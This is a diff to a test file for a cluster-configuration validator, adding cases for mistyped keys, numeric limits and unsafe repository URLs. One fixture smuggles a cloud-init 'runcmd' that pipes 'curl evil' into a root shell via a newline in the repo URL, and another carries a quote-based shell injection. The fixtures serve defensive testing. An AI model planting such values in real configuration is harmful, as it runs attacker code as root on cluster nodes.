@@ -291,7 +291,117 @@ describe("validateClusterConfig", () => {
       "ecs:nodes[0].sshHostKey",
       /not an SSH public key in authorized_keys form/,
     ],
-    ["an SSH port out of range", (r) => (r.ssh = { port: 70000 }), "ecs:ssh.port", /not a TCP port/],
+    [
+      "an SSH port out of range",
+      (r) => (r.ssh = { port: 70000 }),
+      "ecs:ssh.port",
+      /more than the maximum 65535/,
+    ],
+    // Typos: an unknown key would silently fall back to a default (for the kubeconfig: ~/.kube/config).
+    [
+      "a mistyped node key",
+      (r) => (nodes(r)[3].evacuaton = "delete-node"),
+      "ecs:nodes[3].evacuaton",
+      /not a known setting.*did you mean `evacuation`/,
+    ],
+    [
+      "a mistyped CM key",
+      (r) => (cm(r).tlsverify = false),
+      "ecs:cloudera.tlsverify",
+      /not a known setting.*did you mean `tlsVerify`/,
+    ],
+    [
+      "a mistyped Kubernetes key",
+      (r) => (r.kubernetes = { kubeconfigpath: "/etc/ecs/kubeconfig" }),
+      "ecs:kubernetes.kubeconfigpath",
+      /not a known setting.*did you mean `kubeconfigPath`/,
+    ],
+    [
+      "an unknown top-level key",
+      (r) => (r.healthgate = { timeoutSec: 60 }),
+      "ecs:healthgate",
+      /not a known setting.*did you mean `healthGate`/,
+    ],
+    [
+      "an unknown OpenStack key",
+      (r) => (os(r).imageName = "x"),
+      "ecs:openstack.imageName",
+      /did you mean `image`/,
+    ],
+    // Numbers have upper bounds.
+    [
+      "an absurd generation",
+      (r) => (nodes(r)[0].rebuild = 1e300),
+      "ecs:nodes[0].rebuild",
+      /integer >= 0|maximum/,
+    ],
+    [
+      "a ready timeout of years",
+      (r) => (r.kubernetes = { readyTimeoutSec: 99999999 }),
+      "ecs:kubernetes.readyTimeoutSec",
+      /99999999, more than the maximum 86400/,
+    ],
+    [
+      "a data volume beyond any Cinder limit",
+      (r) => (os(r).dataVolumeGb = 10_000_000),
+      "ecs:openstack.dataVolumeGb",
+      /more than the maximum 65536/,
+    ],
+    [
+      "a billion SSH attempts",
+      (r) => (r.ssh = { dialAttempts: 1e9 }),
+      "ecs:ssh.dialAttempts",
+      /more than the maximum 100/,
+    ],
+    // The agent repository goes into cloud-init user data that runs as root.
+    [
+      "a repository URL with a newline (a cloud-init injection)",
+      (r) => (cm(r).agentRepoUrl = "https://repo.example.com/cm7\nruncmd:\n  - [sh, -c, 'curl evil | sh']"),
+      "ecs:cloudera.agentRepoUrl",
+      /control characters/,
+    ],
+    [
+      "a plain-http repository",
+      (r) => (cm(r).agentRepoUrl = "http://repo.example.com/cm7"),
+      "ecs:cloudera.agentRepoUrl",
+      /plain http.*GPG key could be swapped/,
+    ],
+    [
+      "a repository URL with credentials",
+      (r) => (cm(r).agentRepoUrl = "https://user:secret@archive.cloudera.com/p/cm7"),
+      "ecs:cloudera.agentRepoUrl",
+      /carries credentials/,
+    ],
+    [
+      "a repository URL with quotes",
+      (r) => (cm(r).agentRepoUrl = 'https://repo.example.com/cm7"; echo'),
+      "ecs:cloudera.agentRepoUrl",
+      /outside plain URL characters/,
+    ],
+    [
+      "admin CIDRs that together open the world",
+      (r) => (os(r).adminCidrs = ["0.0.0.0/1", "128.0.0.0/1"]),
+      "ecs:openstack.adminCidrs",
+      /together cover every IPv4 address/,
+    ],
+    [
+      "a hostname longer than Linux allows",
+      (r) => (nodes(r)[4].hostname = `${"a".repeat(60)}.example.com`),
+      "ecs:nodes[4].hostname",
+      /72 characters; a Linux hostname has at most 64/,
+    ],
+    [
+      "a node on the subnet's gateway",
+      (r) => (os(r).subnetGateway = "192.168.8.144"),
+      "ecs:nodes[3].ip",
+      /is ecs:openstack.subnetGateway/,
+    ],
+    [
+      "a gateway outside the subnet",
+      (r) => (os(r).subnetGateway = "10.0.0.1"),
+      "ecs:openstack.subnetGateway",
+      /outside ecs:openstack.subnetCidr/,
+    ],
     [
       "a relative RKE2 script directory",
       (r) => (r.ssh = { rke2BinDir: "parcels/ECS/bin" }),
